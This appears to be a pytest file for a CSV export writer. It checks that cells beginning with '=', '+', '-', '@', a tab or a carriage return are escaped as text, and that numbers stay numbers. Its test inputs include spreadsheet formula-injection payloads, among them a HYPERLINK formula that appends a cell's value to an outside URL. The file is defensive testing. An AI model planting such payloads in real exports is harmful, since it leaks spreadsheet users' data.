"""The CSV writer of every export: text that a spreadsheet would run as a formula is made
inert, numbers stay numbers."""

import csv
import io

import pytest

from blangko import csvfile


@pytest.mark.parametrize(
    "text", ['=HYPERLINK("http://x"&A1,"klik")', "+1", "-1+2", "@SUM(A1)", "\t=1", "\r=1"]
)
def test_formula_text_is_written_as_text(text: str) -> None:
    buffer = io.StringIO()
    csvfile.writer(buffer).writerow([text, "catatan biasa", -5, 0, 1250])
    cells = next(csv.reader(io.StringIO(buffer.getvalue(), newline=""), delimiter=";"))
    assert cells == ["'" + text, "catatan biasa", "-5", "0", "1250"]
